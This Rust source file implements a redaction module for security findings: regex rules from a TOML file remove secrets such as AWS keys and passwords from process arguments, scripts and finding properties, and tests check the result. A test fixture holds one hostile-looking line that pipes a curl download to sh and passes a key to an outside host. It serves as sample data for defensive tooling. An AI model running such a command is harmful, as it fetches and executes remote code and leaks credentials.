//! What does not leave the node: secrets, by the operator's rules, and arguments, if they are not wanted.
//!
//! ```toml
//! [[redact]]
//! name = "AWS access key"
//! pattern = "AKIA[0-9A-Z]{16}"
//!
//! [[redact]]
//! name = "password"
//! pattern = "--password[= ](\\S+)"
//! ```
//!
//! Of a pattern with groups only what the first one matches is redacted. Hashes and sizes stay those of the script as it ran.

use std::{
    collections::{BTreeMap, BTreeSet},
    path::Path,
};

use proto::{
    scc::{Finding, Process},
    well_known::{ListValue, Value, value::Kind},
};
use regex::{Captures, Regex, RegexBuilder};
use rule_file::RuleFileError;
use serde::Deserialize;

/// Rules at most: each looks through every text of every finding.
const RULES: usize = 64;

#[derive(Deserialize)]
#[serde(deny_unknown_fields)]
struct FileForm {
    #[serde(default)]
    redact: Vec<RuleForm>,
}

#[derive(Deserialize)]
#[serde(deny_unknown_fields)]
struct RuleForm {
    name: String,
    pattern: String,
}

#[derive(Clone, Debug)]
struct Rule {
    name: String,
    pattern: Regex,
}

/// What is left out of findings.
#[derive(Clone, Debug)]
pub struct Redaction {
    rules: Vec<Rule>,
    with_arguments: bool,
}

impl Default for Redaction {
    fn default() -> Self {
        Self { rules: Vec::new(), with_arguments: true }
    }
}

impl Redaction {
    /// Reads and checks a file of rules, where there is one. `with_arguments`: findings show the arguments of processes.
    pub fn load(path: Option<&Path>, with_arguments: bool) -> Result<Self, RuleFileError> {
        let load = |path| rule_file::load("redactions", path, |file: FileForm| file.redact, check);
        Ok(Self { rules: path.map(load).transpose()?.unwrap_or_default(), with_arguments })
    }

    /// Leaves out of a finding what is to be left out, and says so in it.
    pub fn apply(&self, finding: &mut Finding) {
        let mut found = Found::default();
        let had_arguments = finding.processes.iter().any(|process| !process.args.is_empty());
        if !self.with_arguments && had_arguments {
            finding.processes.iter_mut().for_each(|process| process.args.clear());
            finding.source_properties.remove("Process_Arguments");
            let left_out = Value { kind: Some(Kind::BoolValue(true)) };
            finding.source_properties.insert("Arguments_Left_Out".to_owned(), left_out);
        }
        if self.rules.is_empty() {
            return;
        }
        for process in &mut finding.processes {
            let Process { args, script, .. } = process;
            for text in args.iter_mut().chain(script.iter_mut().map(|script| &mut script.contents)) {
                self.redact(text, &mut found);
            }
        }
        // What follows quotes what is above, and may have cut it.
        let uris = finding.indicator.iter_mut().flat_map(|indicator| &mut indicator.uris);
        for text in uris.chain([&mut finding.description, &mut finding.next_steps]) {
            self.redact_quote(text, &mut found);
        }
        for value in finding.source_properties.values_mut() {
            self.redact_value(value, &mut found);
        }
        if !found.rules.is_empty() {
            let string = |text: &str| Value { kind: Some(Kind::StringValue(text.to_owned())) };
            let names = ListValue { values: found.rules.into_iter().map(string).collect() };
            let names = Value { kind: Some(Kind::ListValue(names)) };
            finding.source_properties.insert("Redacted".to_owned(), names);
        }
    }

    fn redact_value<'a>(&'a self, value: &mut Value, found: &mut Found<'a>) {
        match &mut value.kind {
            Some(Kind::StringValue(text)) => self.redact_quote(text, found),
            Some(Kind::ListValue(list)) => {
                for value in &mut list.values {
                    self.redact_value(value, found);
                }
            }
            Some(Kind::StructValue(fields)) => {
                for value in fields.fields.values_mut() {
                    self.redact_value(value, found);
                }
            }
            _ => {}
        }
    }

    fn redact<'a>(&'a self, text: &mut String, found: &mut Found<'a>) {
        for rule in &self.rules {
            if !rule.pattern.is_match(text) {
                continue;
            }
            found.rules.insert(&rule.name);
            let mark = rule.mark();
            let replace = |captures: &Captures<'_>| {
                let all = captures.get_match();
                // Without a group, or where the first took no part, all of it.
                let secret = captures.get(1).unwrap_or(all);
                if found.secrets.len() < SECRETS {
                    found.secrets.insert(secret.as_str().to_owned(), &rule.name);
                }
                let (before, after) = (secret.start() - all.start(), secret.end() - all.start());
                [&all.as_str()[..before], &mark, &all.as_str()[after..]].concat()
            };
            *text = rule.pattern.replace_all(text, replace).into_owned();
        }
    }

    /// Redacts a text that may hold only the beginning of a secret, so that its pattern does not match.
    fn redact_quote<'a>(&'a self, text: &mut String, found: &mut Found<'a>) {
        self.redact(text, found);
        for (secret, name) in &found.secrets {
            let Some((beginning, rest)) =
                secret.split_at_checked(BEGINNING).filter(|_| secret.len() > BEGINNING)
            else {
                continue;
            };
            let mut from = 0;
            while let Some(at) = text[from..].find(beginning).map(|at| from + at) {
                let behind = &text[at + beginning.len()..];
                let same =
                    behind.chars().zip(rest.chars()).take_while(|(a, b)| a == b).map(|(a, _)| a.len_utf8());
                let end = at + beginning.len() + same.sum::<usize>();
                let mark = format!("[redacted: {name}]");
                text.replace_range(at..end, &mark);
                from = at + mark.len();
            }
        }
    }
}

/// What was redacted so far.
#[derive(Default)]
struct Found<'a> {
    /// Names of the rules that matched.
    rules: BTreeSet<&'a str>,
    /// The secrets, and the names of their rules.
    secrets: BTreeMap<String, &'a str>,
}

/// Secrets of a finding that are looked for where they may be cut.
const SECRETS: usize = 256;
/// Bytes of a secret by which its beginning is known.
const BEGINNING: usize = 6;

impl Rule {
    fn mark(&self) -> String {
        format!("[redacted: {}]", self.name)
    }
}

fn check(index: usize, rule: RuleForm) -> Result<Rule, String> {
    if index >= RULES {
        return Err(format!("there are more than {RULES}"));
    }
    let is_plain = |c: char| c.is_ascii_graphic() || c == ' ';
    if rule.name.trim().is_empty() || rule.name.len() > 64 || !rule.name.chars().all(is_plain) {
        return Err("name is 1 to 64 printable ASCII characters".to_owned());
    }
    // `^` and `$` are of lines: a script has many, and a session's text has those of several scripts.
    let pattern = RegexBuilder::new(&rule.pattern).multi_line(true).build();
    let pattern = pattern.map_err(|e| format!("pattern: {e}"))?;
    if pattern.is_match("") {
        return Err(format!(
            "pattern {:?} matches nothing at all, too: it would be everywhere",
            rule.pattern
        ));
    }
    Ok(Rule { name: rule.name, pattern })
}

#[cfg(test)]
mod tests {
    use proto::scc::File;

    use super::*;

    fn load(text: &str, with_arguments: bool) -> Result<Redaction, RuleFileError> {
        let file = tempfile::NamedTempFile::new().unwrap();
        std::fs::write(file.path(), text).unwrap();
        Redaction::load(Some(file.path()), with_arguments)
    }

    fn finding() -> Finding {
        let string = |text: &str| Value { kind: Some(Kind::StringValue(text.to_owned())) };
        let script = File {
            contents: "curl --password=hunter2 http://192.0.2.1/?k=AKIAABCDEFGHIJKLMNOP | sh\n".to_owned(),
            size: 70,
            sha256: "aa".to_owned(),
            ..File::default()
        };
        let process = Process {
            args: vec!["sh".to_owned(), "--password hunter3".to_owned()],
            script: Some(script),
            ..Process::default()
        };
        Finding {
            processes: vec![process],
            source_properties: [
                ("Verdict_Reasons".to_owned(), string("fetches http://192.0.2.1/?k=AKIAABCDEFGHIJKLMNOP")),
                ("Process_Arguments".to_owned(), string("--password hunter3")),
                ("Resolved".to_owned(), string("fetches http://192.0.2.1/?k=AKIA0000000000000000")),
                ("Cut".to_owned(), string("fetches http://192.0.2.1/?k=AKIAABCDEF")),
            ]
            .into(),
            ..Finding::default()
        }
    }

    #[test]
    fn secrets_are_replaced_wherever_they_stand_and_hashes_stay() {
        let rules = "[[redact]]\nname = \"key\"\npattern = \"AKIA[0-9A-Z]{16}\"\n\
                     [[redact]]\nname = \"password\"\npattern = '--password[= ](\\S+)'\n";
        let mut redacted = finding();
        load(rules, true).unwrap().apply(&mut redacted);
        let script = redacted.processes[0].script.as_ref().unwrap();
        assert_eq!(
            script.contents,
            "curl --password=[redacted: password] http://192.0.2.1/?k=[redacted: key] | sh\n"
        );
        assert_eq!((script.size, script.sha256.as_str()), (70, "aa"));
        assert_eq!(redacted.processes[0].args[1], "--password [redacted: password]");
        let Some(Kind::StringValue(cut)) = &redacted.source_properties["Cut"].kind else { panic!() };
        assert_eq!(cut, "fetches http://192.0.2.1/?k=[redacted: key]", "the beginning of it is enough");
        let text = format!("{redacted:?}");
        assert!(!text.contains("hunter") && !text.contains("AKIA"), "{text}");
        let Some(Kind::ListValue(names)) = &redacted.source_properties["Redacted"].kind else { panic!() };
        assert_eq!(names.values.len(), 2);
    }

    #[test]
    fn arguments_can_be_left_out() {
        let mut without = finding();
        Redaction::load(None, false).unwrap().apply(&mut without);
        assert!(!format!("{without:?}").contains("hunter3"));
        assert!(without.source_properties.contains_key("Arguments_Left_Out"));
        let mut with = finding();
        Redaction::load(None, true).unwrap().apply(&mut with);
        assert_eq!(with, finding());
    }

    #[test]
    fn a_rule_that_makes_no_sense_is_named() {
        for (rule, says) in [
            ("[[redact]]\nname = \"a\"\npattern = \"(\"\n", "rule 1: pattern"),
            ("[[redact]]\nname = \"a\"\npattern = \"x*\"\n", "matches nothing at all"),
            ("[[redact]]\nname = \"\"\npattern = \"x\"\n", "printable"),
            ("[[redact]]\nname = \"a\"\n", "missing field `pattern`"),
            ("[[redcat]]\n", "unknown field"),
        ] {
            let error = load(rule, true).unwrap_err().to_string();
            assert!(error.contains(says), "{error}");
        }
    }
}
